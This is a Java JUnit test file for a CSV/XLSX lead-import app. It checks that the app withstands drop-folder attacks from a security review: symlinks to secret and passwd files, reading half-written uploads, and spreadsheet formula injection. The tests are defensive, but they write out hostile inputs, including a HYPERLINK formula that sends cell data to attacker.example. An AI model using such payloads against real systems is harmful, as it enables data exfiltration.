package africa.cashfin.camel.examples.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import africa.cashfin.camel.examples.app.ExamplesApp;

/**
 * The security review's attacks on the drop folder (issue 19, findings 2 and 11), through the real app: whoever can
 * write to a shared inbox (SFTP, SMB) drops symbolic links to files the app can read, reads the reports, or is read
 * while still writing (and how the people who feed it avoid that: write under a temporary name, then rename).
 */
class DropFolderAttacksTest {

    /** Files younger than this are not read: the slow writer below pauses for less. */
    private static final int MIN_AGE_MILLIS = 4000;

    @RegisterExtension
    static final ExamplesApp APP = new ExamplesApp().with("cashfin.csv.min-age", String.valueOf(MIN_AGE_MILLIS));

    private static final Duration WAIT = Duration.ofSeconds(90);

    @TempDir
    Path elsewhere;

    @BeforeEach
    void resetCashfin() {
        APP.cashfin().reset();
    }

    @Test
    void aSymbolicLinkToAFileOutsideTheInboxIsRefusedAndNothingOfItsTargetIsReadOrCopied() throws IOException {
        Path secret = Files.writeString(elsewhere.resolve("customers.csv"),
                "Full Name,Email\nSecret Person,secret.person@example.test\n");
        Path passwd = Files.writeString(elsewhere.resolve("passwd"),
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n");
        Files.createSymbolicLink(APP.inbox().resolve("leak.csv"), secret);
        Files.createSymbolicLink(APP.inbox().resolve("passwd.txt"), passwd);

        for (String link : List.of("leak.csv", "passwd.txt")) {
            Path note = APP.failed().resolve(link + CsvImports.ERROR_SUFFIX);
            // the note is written before Camel moves the link: wait for both (under load the move comes later)
            await().atMost(WAIT).until(() -> Files.exists(note) && Files.isSymbolicLink(APP.failed().resolve(link)));
            assertThat(Files.readString(note)).contains(link + " is a symbolic link", "Copy the file itself");
            assertThat(APP.failed().resolve(link)).isSymbolicLink();
        }
        assertThat(APP.cashfin().leads()).extracting(l -> l.get("name")).doesNotContain("Secret Person", "root");
        assertThat(allText(APP.work())).doesNotContain("secret.person@example.test", "root:x:0:0");
        assertThat(Files.readString(secret)).isEqualTo("Full Name,Email\nSecret Person,secret.person@example.test\n");
    }

    @Test
    void reportsAndFilesGoOutsideTheInbox() throws IOException {
        APP.drop("Full Name,Email\nAmina Otieno,amina.otieno@example.test\n,missing.name@example.test\n"
                .getBytes(StandardCharsets.UTF_8), "two-rows.csv");

        await().atMost(WAIT).until(() -> Files.exists(APP.done().resolve("two-rows.csv")));
        assertThat(APP.done().resolve("two-rows.report.csv")).exists();
        assertThat(Files.readString(APP.done().resolve("two-rows.errors.csv"))).contains("missing.name@example.test");
        assertThat(APP.done().startsWith(APP.inbox())).isFalse();
        try (Stream<Path> inInbox = Files.list(APP.inbox())) {
            assertThat(inInbox.map(p -> p.getFileName().toString())).noneMatch(n -> n.startsWith("two-rows")
                    || n.equals(".done") || n.equals(".error"));
        }
    }

    @Test
    void aWriterThatPausesIsNotReadHalfWay() throws Exception {
        Path file = APP.inbox().resolve("slow-writer.csv");
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write("Full Name,Email\nFirst Row,first.row@example.test\nSecond R".getBytes(StandardCharsets.UTF_8));
            out.flush();
            // a writer that pauses (a slow upload, a script between batches): shorter than cashfin.csv.min-age
            Thread.sleep(MIN_AGE_MILLIS / 2);
            out.write("ow,second.row@example.test\nThird Row,third.row@example.test\n"
                    .getBytes(StandardCharsets.UTF_8));
        }

        await().atMost(WAIT).until(() -> Files.exists(APP.done().resolve("slow-writer.csv")));
        assertThat(APP.cashfin().leads()).extracting(l -> l.get("name"))
                .containsExactlyInAnyOrder("First Row", "Second Row", "Third Row");
    }

    /**
     * examples.md, "Feeding the inbox": a file written under a temporary name ({@code .leads.csv.part}, or any name
     * not ending in an extension the import reads) is left alone however long its writer pauses, and read whole once
     * renamed.
     */
    @Test
    void aFileWrittenUnderATemporaryNameIsReadOnlyWholeAfterItsRename() throws Exception {
        Path hidden = APP.inbox().resolve(".leads.csv.part");
        Path other = APP.inbox().resolve("export.csv.tmp");
        String firstPart = "Full Name,Email\nFirst Row,first.row@example.test\nSecond R";
        String rest = "ow,second.row@example.test\nThird Row,third.row@example.test\n";
        String otherFirstPart = "Full Name,Email\nFirst Tmp,first.tmp@example.test\nSecond T";
        String otherRest = "mp,second.tmp@example.test\nThird Tmp,third.tmp@example.test\n";
        Files.writeString(hidden, firstPart);
        Files.writeString(other, otherFirstPart);

        // a file dropped after them is read once it is cashfin.csv.min-age old: by then both temporary files are
        // older and have been passed over by every poll
        APP.drop("Full Name,Email\nMarker Row,marker.row@example.test\n".getBytes(StandardCharsets.UTF_8),
                "marker.csv");
        await().atMost(WAIT).until(() -> Files.exists(APP.done().resolve("marker.csv")));
        assertThat(hidden).hasContent(firstPart);
        assertThat(other).exists();
        assertThat(APP.cashfin().leads()).extracting(l -> l.get("name")).containsExactly("Marker Row");

        // the writers finish and rename: each file is read whole
        Files.writeString(hidden, rest, java.nio.file.StandardOpenOption.APPEND);
        Files.writeString(other, otherRest, java.nio.file.StandardOpenOption.APPEND);
        Files.move(hidden, APP.inbox().resolve("leads.csv"), java.nio.file.StandardCopyOption.ATOMIC_MOVE);
        Files.move(other, APP.inbox().resolve("export.csv"), java.nio.file.StandardCopyOption.ATOMIC_MOVE);

        await().atMost(WAIT).until(() -> Files.exists(APP.done().resolve("leads.csv"))
                                         && Files.exists(APP.done().resolve("export.csv")));
        assertThat(APP.cashfin().leads()).extracting(l -> l.get("name")).containsExactlyInAnyOrder("Marker Row",
                "First Row", "Second Row", "Third Row", "First Tmp", "Second Tmp", "Third Tmp");
    }

    @Test
    void workbookTextThatLooksLikeAFormulaIsEscapedInTheErrorsFile() throws IOException {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        try (org.apache.poi.xssf.usermodel.XSSFWorkbook wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook()) {
            org.apache.poi.xssf.usermodel.XSSFSheet sheet = wb.createSheet("Leads");
            org.apache.poi.ss.usermodel.Row header = sheet.createRow(0);
            header.createCell(0).setCellValue("Full Name");
            header.createCell(1).setCellValue("Email");
            header.createCell(2).setCellValue("Notes");
            org.apache.poi.ss.usermodel.Row row = sheet.createRow(1);
            // a text cell (not a formula) in the workbook; the row fails: no name
            row.createCell(1).setCellValue("not-an-address");
            row.createCell(2).setCellValue("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")");
            wb.write(bytes);
        }
        APP.drop(bytes.toByteArray(), "formula.xlsx");

        Path errors = APP.done().resolve("formula.xlsx" + ImportReport.ERRORS_SUFFIX);
        await().atMost(WAIT).until(() -> Files.exists(APP.done().resolve("formula.xlsx")));
        assertThat(Files.readString(errors)).contains("'=HYPERLINK(").doesNotContain(",=HYPERLINK(", "\"=HYPERLINK(");
    }

    private static String allText(Path dir) throws IOException {
        StringBuilder sb = new StringBuilder();
        try (Stream<Path> files = Files.walk(dir)) {
            for (Path p : files.filter(p -> Files.isRegularFile(p, java.nio.file.LinkOption.NOFOLLOW_LINKS))
                    .filter(p -> !p.toString().contains("/db/")).toList()) {
                sb.append(new String(Files.readAllBytes(p), StandardCharsets.ISO_8859_1));
            }
        }
        return sb.toString();
    }

}
